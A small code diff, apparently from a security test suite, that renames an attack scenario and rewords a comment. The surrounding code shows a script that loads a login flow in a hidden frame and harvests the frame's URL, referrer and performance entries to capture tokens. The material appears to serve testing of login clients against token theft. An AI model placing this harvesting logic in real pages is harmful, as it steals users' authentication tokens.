@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "silent flow in a frame",
+  name: "runs a silent flow in a frame",
   threat: "acquisition of new tokens",
   target: "any",
   async payload(it) {
@@ -13,7 +13,7 @@ export default attack({
         const { location, document, performance } = frame.contentWindow as Window & typeof globalThis;
         it.steal(location.href, document.referrer, performance.getEntries());
       } catch {
-        // The frame is of another origin now.
+        // The frame is cross-origin now.
       }
       await it.pause(10);
     }
